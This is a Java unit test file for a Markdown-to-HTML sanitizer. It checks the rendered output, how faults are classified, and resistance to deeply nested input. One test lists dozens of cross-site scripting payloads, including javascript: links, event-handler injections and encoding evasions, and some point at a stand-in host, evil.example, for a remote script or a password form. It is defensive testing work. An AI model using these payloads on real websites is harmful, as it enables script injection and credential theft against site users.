package org.hemicycle.defaults.prose;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.Set;
import java.util.regex.Pattern;
import org.hemicycle.defaults.prose.Prose.Fault;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

class ProseTest {

    private static final Pattern TAG = Pattern.compile("<(/?)([^\\s>]*)([^>]*)>");
    private static final Set<String> TAGS = Set.of(
            "p", "a", "em", "strong", "ul", "ol", "li", "blockquote", "h2", "h3", "h4", "h5", "h6", "hr", "br", "pre", "code");
    private static final Pattern ATTRIBUTES = Pattern.compile(
            "( (rel=\"nofollow\"|href=\"((https?|mailto):[^\"<>]*)?\"|title=\"[^\"<>]*\"|class=\"language-[^\"<>]*\"|start=\"\\d+\"))* ?/?",
            Pattern.CASE_INSENSITIVE);

    @Test
    void becomesHtmlWhoseHeadingsStandBelowTheTitle() {
        var prose = new Prose("# A heading\n\nSome *words* with a [link](https://news.example/1?a=b&c=d) and `code`.\n\n> Quoted\n\n1. one\n2. two");

        assertThat(prose.fault()).isNull();
        assertThat(prose.html()).isEqualTo("""
                <h2>A heading</h2>
                <p>Some <em>words</em> with a <a rel="nofollow" href="https://news.example/1?a=b&amp;c=d">link</a> and <code>code</code>.</p>
                <blockquote>
                <p>Quoted</p>
                </blockquote>
                <ol>
                <li>one</li>
                <li>two</li>
                </ol>
                """);
        assertThat(prose.text()).startsWith("A heading").contains("Some words with a \"link\"");
    }

    @ParameterizedTest
    @CsvSource(delimiter = '|', quoteCharacter = '\0', textBlock = """
        Words with <b>markup</b>                       | HTML
        <!-- a comment -->                             | HTML
        ![A picture](https://news.example/p.png)       | PICTURE
        [a link](javascript:alert(1))                  | UNSAFE_LINK
        [a link](/en/areas/FR)                         | UNSAFE_LINK
        [a link](//news.example)                       | UNSAFE_LINK
        <javascript:alert(1)>                          | UNSAFE_LINK
        """)
    void saysWhatCannotBeShown(String markdown, Fault fault) {
        assertThat(new Prose(markdown).fault()).isEqualTo(fault);
    }

    /** Even if nobody had refused them: nothing runs, nothing is fetched, and no link leads into a script. */
    @ParameterizedTest
    @ValueSource(strings = {
        "<script>alert(1)</script>",
        "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
        "<img src=x onerror=alert(1)>",
        "<svg/onload=alert(1)>",
        "<svg><script>alert(1)</script></svg>",
        "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
        "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
        "<a href=\"javascript:alert(1)\">x</a>",
        "<body onload=alert(1)>",
        "<details open ontoggle=alert(1)>",
        "<style>@import 'https://evil.example/x.css';</style>",
        "<base href=https://evil.example/>",
        "<meta http-equiv=refresh content='0;url=https://evil.example'>",
        "<form action=https://evil.example><input name=password></form>",
        "<object data=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==></object>",
        "<<script>script>alert(1)<</script>/script>",
        "<scr\0ipt>alert(1)</scr\0ipt>",
        "[x](javascript:alert(1))",
        "[x](JaVaScRiPt:alert(1))",
        "[x](java\nscript:alert(1))",
        "[x](&#106;avascript:alert(1))",
        "[x](javascript&colon;alert(1))",
        "[x](javascript&#58;alert(1))",
        "[x]( javascript:alert(1))",
        "[x](<javascript:alert(1)>)",
        "[x](\u0001javascript:alert(1))",
        "[x](vbscript:msgbox(1))",
        "[x](data:text/html,<script>alert(1)</script>)",
        "[x](file:///etc/passwd)",
        "[x](blob:https://evil.example/1)",
        "[x](https://news.example \"\\\" onmouseover=\\\"alert(1)\")",
        "[x](https://news.example/\" onmouseover=\"alert(1))",
        "[x](https://news.example/'onmouseover='alert(1))",
        "[x][1]\n\n[1]: javascript:alert(1)",
        "<javascript:alert(1)>",
        "<https://news.example/\"onclick=alert(1)>",
        "![x](javascript:alert(1))",
        "![x\" onerror=\"alert(1)](https://evil.example/x.png)",
        "![<script>alert(1)</script>](x)",
        "```<script>alert(1)</script>\nx\n```",
        "```\" onmouseover=\"alert(1)\nx\n```",
        "`<script>alert(1)</script>`",
        "    <script>alert(1)</script>",
        "&lt;script&gt;alert(1)&lt;/script&gt;",
        "&#60;script&#62;alert(1)&#60;/script&#62;",
        "</p></main><script>alert(1)</script>",
        "<!--><script>alert(1)</script>-->",
        "<![CDATA[<script>alert(1)</script>]]>",
        "<?xml version=\"1.0\"?><x onclick='alert(1)'/>",
        "1. <script>alert(1)</script>\n   <img src=x onerror=alert(1)>",
        "# <script>alert(1)</script>",
        "> <script>\n> alert(1)\n> </script>",
        "\u2028<script>alert(1)</script>\u2029",
    })
    void letsNoScriptThrough(String attempt) {
        String html = new Prose(attempt).html();

        var tags = TAG.matcher(html);
        while (tags.find()) {
            assertThat(TAGS).as(html).contains(tags.group(2));
            assertThat(ATTRIBUTES.matcher(tags.group(3)).matches()).as(html).isTrue();
        }
        assertThat(tags.replaceAll("")).doesNotContain("<");
    }

    @Test
    void bearsTextsThatAreNestedDeeperThanAnybodyWrites() {
        for (String depth : new String[] {"> ", "* ", "[", "*a **b ", "`"}) {
            assertThat(new Prose(depth.repeat(20_000)).html()).isNotNull();
            new Prose(depth.repeat(20_000)).fault();
        }
    }
}
